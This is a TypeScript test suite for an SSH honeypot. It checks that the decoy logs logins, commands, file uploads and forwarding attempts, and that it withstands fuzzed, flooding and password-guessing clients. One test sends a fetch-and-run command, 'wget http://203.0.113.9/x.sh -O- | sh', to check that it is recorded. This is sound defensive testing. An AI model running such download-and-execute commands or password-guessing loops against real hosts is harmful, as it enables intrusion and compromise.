import { execFile, execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import ssh2, { type Client } from 'ssh2';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { describeLure, LureBench } from './lure.suite.ts';

describeLure('ssh', {
  async login(port, username, password) {
    const client = await signIn(port, username, password).catch(() => null);
    client?.end();
    return client !== null;
  },
  async upload(port, name, data) {
    const client = await signIn(port, 'root', 'root');
    await new Promise<void>((resolve) => {
      client.on('close', () => resolve());
      client.sftp((error, sftp) => {
        if (error) return resolve();
        sftp.on('error', () => resolve());
        sftp.writeFile(name, data, () => resolve());
      });
    });
    client.end();
  },
});

function signIn(port: number, username: string, password: string): Promise<Client> {
  return new Promise((resolve, reject) => {
    const client = new ssh2.Client();
    client.on('ready', () => resolve(client)).on('error', reject);
    client.connect({ host: '127.0.0.1', port, username, password, tryKeyboard: false });
  });
}

const hasSsh = (() => {
  try {
    execFileSync('ssh', ['-V'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
})();

describe.skipIf(!hasSsh)(`OpenSSH at the ssh lure${hasSsh ? '' : ' (skipped: needs ssh)'}`, () => {
  const bench = new LureBench('ssh');
  const run = promisify(execFile);
  let home: string;
  let port: number;

  beforeEach(async () => {
    home = await mkdtemp(join(tmpdir(), 'ssh-visitor-'));
    await writeFile(join(home, 'askpass'), '#!/bin/sh\necho root\n', { mode: 0o700 });
    port = await bench.start();
  });
  afterEach(async () => {
    await bench.clean();
    await rm(home, { recursive: true });
  });

  function options(portFlag: string): string[] {
    const settings = [
      'StrictHostKeyChecking=accept-new',
      `UserKnownHostsFile=${join(home, 'known_hosts')}`,
      'ConnectTimeout=5',
    ];
    return ['-F', '/dev/null', ...settings.flatMap((each) => ['-o', each]), portFlag, String(port)];
  }

  /** Answers every prompt for a password with "root". */
  function environment(): NodeJS.ProcessEnv {
    return {
      ...process.env,
      HOME: home,
      SSH_ASKPASS: join(home, 'askpass'),
      SSH_ASKPASS_REQUIRE: 'force',
      SSH_AUTH_SOCK: '',
    };
  }

  it('is reported with its banner, and with the key it shows', async () => {
    const key = join(home, 'id');
    await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]);
    const [, fingerprint] = (await run('ssh-keygen', ['-lf', key])).stdout.split(' ');
    const args = [...options('-p'), '-o', 'BatchMode=yes', '-i', key, 'root@127.0.0.1'];
    await expect(run('ssh', args, { env: environment() })).rejects.toThrow(/Permission denied/);
    expect((await bench.until('banner')).text).toMatch(/^SSH-2\.0-OpenSSH_/);
    expect(bench.of('login').map(({ text }) => text)).toContain(
      `rejected publickey ${fingerprint}`,
    );
  });

  it('runs a command and gets its exit code', async () => {
    const ssh = (command: string) =>
      run('ssh', [...options('-p'), 'root@127.0.0.1', command], { env: environment() });
    expect((await ssh('id; uname -m')).stdout).toBe(
      'uid=0(root) gid=0(root) groups=0(root)\nx86_64\n',
    );
    await expect(ssh('wget http://203.0.113.9/x.sh -O- | sh')).rejects.toMatchObject({ code: 4 });
    expect(bench.of('command').map(({ text }) => text)).toEqual([
      'id; uname -m',
      'wget http://203.0.113.9/x.sh -O- | sh',
    ]);
  });

  it('has a shell with a terminal', async () => {
    const child = spawn('ssh', [...options('-p'), '-tt', 'root@127.0.0.1'], { env: environment() });
    let screen = '';
    child.stdout.on('data', (chunk: Buffer) => {
      screen += chunk.toString();
    });
    child.stdin.write('whoamix\u007f\rcd /etc\rcat hostname\rexit\r');
    const [code] = await once(child, 'close');
    expect(code).toBe(0);
    expect(screen).toContain('root@web-03:~# whoamix\b \b\r\nroot\r\n');
    expect(screen).toContain('root@web-03:/etc# cat hostname\r\nweb-03\r\n');
    expect(bench.of('command').map(({ text }) => text)).toEqual([
      'whoami',
      'cd /etc',
      'cat hostname',
      'exit',
    ]);
  });

  it('has a shell for commands on standard input', async () => {
    const child = spawn('ssh', [...options('-p'), '-T', 'root@127.0.0.1'], { env: environment() });
    let output = '';
    child.stdout.on('data', (chunk: Buffer) => {
      output += chunk.toString();
    });
    child.stdin.end('pwd\nls /var/www/html\n');
    await once(child, 'close');
    expect(output).toBe('/root\nindex.html\n');
  });

  it.each([
    ['SFTP', []],
    ['the old protocol', ['-O']],
  ])('copies a file with scp over %s', async (_, flags) => {
    const file = join(home, 'miner');
    await writeFile(file, 'x'.repeat(100_000));
    await run('scp', [...flags, ...options('-P'), file, 'root@127.0.0.1:/tmp/miner'], {
      env: environment(),
    });
    const upload = await bench.until('upload');
    expect(upload).toMatchObject({ bytes: 100_000, text: expect.stringContaining('miner') });
    expect(await readFile(join(bench.uploads, upload.sha256 ?? ''), 'utf8')).toBe(
      'x'.repeat(100_000),
    );
  });

  it('forwards nothing', async () => {
    const args = [...options('-p'), '-W', '203.0.113.9:80', 'root@127.0.0.1'];
    await expect(run('ssh', args, { env: environment() })).rejects.toThrow();
    expect((await bench.until('command')).text).toBe('forward to 203.0.113.9 port 80');
  });

  it('shows the same host keys after a restart', async () => {
    const scan = async () =>
      (await run('ssh-keyscan', ['-p', String(port), '127.0.0.1'])).stdout
        .replace(/^#.*\n/gm, '')
        .replaceAll(`:${port}`, '')
        .split('\n')
        .sort();
    const before = await scan();
    await bench.stop();
    port = await bench.start();
    expect(await scan()).toEqual(before);
    expect(before.filter(Boolean)).toHaveLength(3);
  });
});

describe('a hostile SSH client', () => {
  const bench = new LureBench('ssh');
  afterEach(() => bench.clean());

  it('that announces packets of no bytes is cut off', async () => {
    const port = await bench.start();
    const client = await signIn(port, 'root', 'root');
    client.on('error', () => {});
    const closed = once(client, 'close');
    const { _protocol: protocol } = client as unknown as {
      _protocol: { session(id: number, window: number, packet: number): void };
    };
    protocol.session(0, 2 ** 20, 0);
    await closed;
    expect(bench.of('close')).toHaveLength(1);
  });

  it('that garbles its messages does no harm', async () => {
    const port = await bench.start({ limits: { sourceEventBurst: 10_000 } });
    // The same garbling every time (a linear congruential generator).
    let seed = 1;
    const random = (below: number) => {
      seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff;
      return seed % below;
    };
    for (let visit = 0; visit < 10; visit++) {
      const client = await signIn(port, 'root', 'root');
      client.on('error', () => {});
      const closed = once(client, 'close');
      garble(client, random);
      client.shell((_, channel) => channel?.on('error', () => {}).write('id\nls\n'));
      client.sftp((_, sftp) => {
        sftp?.on('error', () => {});
        sftp?.writeFile('x', Buffer.alloc(1000), () => {});
        sftp?.readdir('/', () => {});
      });
      client.forwardOut('192.0.2.1', 1, '192.0.2.2', 2, () => {});
      setTimeout(() => client.destroy(), 100);
      await closed;
    }
    (await signIn(port, 'root', 'root')).end();
  });

  it('that runs commands without end is cut off', async () => {
    const port = await bench.start({ limits: { maxEventsPerSession: 40 } });
    const client = await signIn(port, 'root', 'root');
    client.on('error', () => {});
    client.shell(false, (error, channel) => {
      if (!error) channel.write('id\n'.repeat(1000));
    });
    await once(client, 'close');
    await bench.until('close');
    expect(bench.events.length).toBeLessThanOrEqual(41);
  });

  it('that tries passwords without end is cut off', async () => {
    const port = await bench.start({ login: { weak: [], acceptTry: null } });
    const client = new ssh2.Client();
    client.on('error', () => {});
    let tries = 0;
    client.connect({
      host: '127.0.0.1',
      port,
      username: 'root',
      authHandler: (_methods, _partial, next) =>
        next({ type: 'password', username: 'root', password: `p${tries++}` }),
    });
    await once(client, 'close');
    expect(bench.of('login')).toHaveLength(6);
  });
});

/** Overwrites a few bytes of every other message before it is encrypted. */
function garble(client: Client, random: (below: number) => number): void {
  const { _protocol: protocol } = client as unknown as {
    _protocol: { _cipher: { encrypt(packet: Buffer): void } };
  };
  const cipher = protocol._cipher;
  const encrypt = cipher.encrypt.bind(cipher);
  const LENGTHS_BYTES = 5; // of packet and padding, which would only fail the check of the MAC
  cipher.encrypt = (packet) => {
    for (let count = random(2) * 3; count > 0; count--) {
      packet[LENGTHS_BYTES + random(packet.length - LENGTHS_BYTES)] = random(256);
    }
    encrypt(packet);
  };
}
